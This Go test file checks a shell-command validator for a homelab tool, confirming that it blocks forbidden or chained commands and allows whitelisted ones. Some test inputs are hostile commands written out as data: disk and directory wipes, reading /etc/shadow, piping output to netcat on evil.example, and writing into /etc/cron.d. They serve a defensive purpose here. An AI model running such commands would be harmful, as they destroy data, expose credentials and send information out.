package validator

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/homelab/sentinel/pkg/types"
)

func TestForbiddenWipe(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("rm -rf /")
	assert.False(t, verdict.Allowed)
	assert.Equal(t, types.RiskForbidden, verdict.RiskLevel)
	assert.Contains(t, verdict.MatchedRule, `^rm\s+-rf\s+/`)
}

func TestSafeListing(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("docker ps -a")
	assert.True(t, verdict.Allowed)
	assert.Equal(t, types.RiskSafe, verdict.RiskLevel)
	assert.False(t, verdict.RequiresApproval)
}

func TestMediumRiskRestart(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("docker restart api")
	assert.True(t, verdict.Allowed)
	assert.Equal(t, types.RiskMedium, verdict.RiskLevel)
	assert.True(t, verdict.RequiresApproval)
}

func TestEmptyCommand(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("   ")
	assert.False(t, verdict.Allowed)
	assert.Equal(t, "empty command", verdict.MatchedRule)
}

func TestNotInWhitelist(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("some-completely-unknown-binary --flag")
	assert.False(t, verdict.Allowed)
	assert.Equal(t, types.RiskForbidden, verdict.RiskLevel)
	assert.Equal(t, "command not in whitelist", verdict.MatchedRule)
}

func TestAllowedRulesAnchorTheFullCommandString(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	// A trailing chained command must never ride along on an allowed prefix.
	chained := []string{
		"docker start web1 && rm -rf /data",
		"docker ps -a; cat /etc/shadow",
		"ls | nc evil.example 4444",
		"echo hello > /etc/cron.d/job",
		"docker restart api && touch /tmp/pwned",
	}
	for _, cmd := range chained {
		verdict := v.Validate(cmd)
		assert.False(t, verdict.Allowed, "validate(%q) must not be allowed", cmd)
	}
}

func TestAllowedCompoundDiagnosticsStillMatch(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("ping -c 4 gateway.local && traceroute gateway.local")
	assert.True(t, verdict.Allowed)
	assert.Equal(t, "network_path_check", verdict.MatchedRule)

	verdict = v.Validate("mount -a && systemctl restart nas-mount.service")
	assert.True(t, verdict.Allowed)
	assert.True(t, verdict.RequiresApproval)
}

func TestForbiddenOutranksAllowedRegardlessOfCase(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	verdict := v.Validate("DD IF=/dev/zero OF=/dev/sda")
	assert.False(t, verdict.Allowed)
	assert.Equal(t, types.RiskForbidden, verdict.RiskLevel)
}

func TestValidateIsIdempotentAndDeterministic(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	commands := []string{"docker ps -a", "rm -rf /", "docker restart api", "foo bar baz"}
	for _, cmd := range commands {
		first := v.Validate(cmd)
		second := v.Validate(cmd)
		assert.Equal(t, first, second, "validate(%q) must be deterministic", cmd)
	}
}

func TestListSafeCommandsExcludesForbiddenAndHighRisk(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	safe := v.ListSafeCommands()
	assert.Contains(t, safe, "docker_ps")
	assert.NotContains(t, safe, "docker_rm")
}

func TestListAllowedCommandsGroupsByRisk(t *testing.T) {
	v, err := New()
	require.NoError(t, err)

	grouped := v.ListAllowedCommands()
	assert.Contains(t, grouped[string(types.RiskSafe)], "docker_ps")
	assert.Contains(t, grouped[string(types.RiskHigh)], "docker_rm")
}
